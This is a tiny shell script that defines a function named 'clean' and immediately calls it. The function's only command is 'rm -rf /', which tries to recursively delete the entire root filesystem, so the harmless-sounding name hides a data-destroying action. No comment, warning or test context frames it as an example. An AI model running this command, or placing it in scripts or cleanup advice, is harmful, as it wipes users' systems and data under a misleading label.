clean() {
  rm -rf /
}
clean
